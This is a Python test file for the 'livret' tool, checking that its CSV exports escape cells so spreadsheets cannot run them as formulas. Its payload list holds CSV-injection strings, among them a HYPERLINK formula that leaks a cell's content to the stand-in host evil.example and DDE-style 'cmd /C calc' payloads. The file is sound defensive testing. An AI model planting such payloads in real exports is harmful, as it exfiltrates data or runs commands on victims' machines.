"""Every CSV livret writes opens safely in a spreadsheet: no cell runs as a formula.

One helper (:mod:`livret.views.spreadsheet`) makes the cells safe; these tests
check it with the payloads of a red team, then check each writer end to end
(the Qualiopi report file, the progression CSV, the Moodle export; the app's
download of the Qualiopi report is in tests/app/test_app_csv_download.py),
and that no other code writes CSV on its own.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from factories import REPO
from interop_support import cli, cohort_history

from livret.interop.moodle import read_moodle_csv
from livret.store.yamlio import dump_yaml, load_yaml
from livret.views.spreadsheet import csv_text, restore_cell, safe_cell

#: Cells a spreadsheet runs (Excel, LibreOffice, Google Sheets), or that hide a formula behind blanks.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "@SOMME(1+1)*cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "-3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b@SUM(A1)",
    "\ufeff=1",
]
HARMLESS = ["Alice", "", "Dupont-Martin", "l'apprenant·e", "100 %", "'déjà entre apostrophes", "a=b"]


def runs_as_formula(cell: str) -> bool:
    """Independent of the code under test: the first character, or the first visible one."""
    visible = cell.lstrip(" \t\r\n\u00a0\u200b\u2060\ufeff")
    return (cell[:1] != "" and cell[:1] in "=+-@\t\r") or (visible[:1] != "" and visible[:1] in "=+-@")


def cells(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=delimiter))


# ----------------------------------------------------------------- the helper


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_prefixed_kept_readable_and_restored(payload):
    assert runs_as_formula(payload)
    safe = safe_cell(payload)
    assert safe == "'" + payload and not runs_as_formula(safe)
    assert safe_cell(safe) == safe  # idempotent
    assert restore_cell(safe) == payload


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text):
    assert safe_cell(text) == text and restore_cell(text) == text


def test_numbers_and_none():
    assert safe_cell(None) == "" and safe_cell(12) == "12" and safe_cell(-3) == "'-3"


def test_csv_text_makes_every_cell_safe():
    text = csv_text([["titre", *PAYLOADS], ["ok", *HARMLESS]], bom=True)
    assert text.startswith("\ufeff") and "\r\n" in text
    rows = cells(text, ";")
    assert not [c for row in rows for c in row if runs_as_formula(c)]
    assert rows[0][1:] == ["'" + p for p in PAYLOADS]


def test_no_code_writes_csv_without_the_helper():
    writers = []
    for folder in ("livret", "forms_app"):
        for path in (REPO / folder).rglob("*.py"):
            if path.name == "spreadsheet.py":
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"csv\.(writer|DictWriter)\(", text):
                writers.append(path.relative_to(REPO).as_posix())
    assert writers == [], "CSV written without livret.views.spreadsheet.csv_text"


# ----------------------------------------------------------------- each writer


def rename(project, learner: str, **changes) -> None:
    store = project.store
    profile = store.load_learner(learner).profile.model_copy(update=changes)
    store.write_profile(profile, "Objectifs.", author="admin", message=f"{learner} : {sorted(changes)}")


@pytest.mark.parametrize("payload", [PAYLOADS[0], PAYLOADS[1], PAYLOADS[8], PAYLOADS[10]])
def test_qualiopi_report_file(project, tmp_path, payload):
    rename(project, "alice", first_name=payload, programme=payload)
    out = tmp_path / "qualiopi.csv"
    result = cli(project, "report", "qualiopi", "-o", str(out), "--today", "2026-11-21")
    assert result.exit_code == 0, result.output
    rows = cells(out.read_text(encoding="utf-8"), ";")
    assert not [c for row in rows for c in row if runs_as_formula(c)]
    stored = project.store.load_learner("alice").profile  # names are stored without outer blanks
    alice = [r for r in rows if r[0] == "alice"]
    assert alice and all(r[1] == f"'{stored.name}" and r[2] == "'" + stored.programme for r in alice)
    # the same rows on standard output
    shown = cli(project, "report", "qualiopi", "--today", "2026-11-21", "--learner", "alice")
    assert not [c for row in cells(shown.output, ";") for c in row if runs_as_formula(c)]


@pytest.mark.parametrize("payload", [PAYLOADS[0], PAYLOADS[1], PAYLOADS[8], PAYLOADS[4], PAYLOADS[10]])
def test_progression_csv(project, tmp_path, payload):
    cohort_history(project)
    rename(project, "bob", last_name=payload, programme=payload)
    out = tmp_path / "progression.csv"
    assert cli(project, "export-progress", "-o", str(out)).exit_code == 0
    rows = cells(out.read_text(encoding="utf-8"), ";")
    assert not [c for row in rows for c in row if runs_as_formula(c)]
    stored = project.store.load_learner("bob").profile
    assert {r[2] for r in rows if r[0] == "bob"} == {"'" + stored.programme}


def test_moodle_export_is_safe_and_imports_back_the_same(project, tmp_path):
    path = project.portfolios / "_frameworks" / "mini.yml"
    data = load_yaml(path.read_text(encoding="utf-8")).data
    data["title"] = '=HYPERLINK("http://evil.example","Référentiel")'
    data["description"] = "- une liste Markdown\n- qui commence par un tiret"
    data["blocks"][0]["title"] = "@SOMME(A1)"
    data["blocks"][1]["competencies"][0]["title"] = " +33 6 12 34 56 78"
    data["scale"]["values"][0]["label"] = "-1"
    path.write_text(dump_yaml(data), encoding="utf-8")
    out = tmp_path / "mini.csv"
    result = cli(project, "framework", "export", "mini", "--format", "moodle", "-o", str(out))
    assert result.exit_code == 0, result.stderr
    text = out.read_text(encoding="utf-8")
    assert not [c for row in cells(text, ",") for c in row if runs_as_formula(c)]
    # livret reads its own export back to the same framework (the apostrophes are its own);
    # only the source is new: the file now comes from Moodle's format.
    again = read_moodle_csv(text, name="mini.csv", framework_id_="mini")
    assert again.framework.model_copy(update={"source": None}) == project.store.framework("mini")[0]
    assert again.framework.title.startswith("=HYPERLINK") and again.framework.blocks[0].title == "@SOMME(A1)"
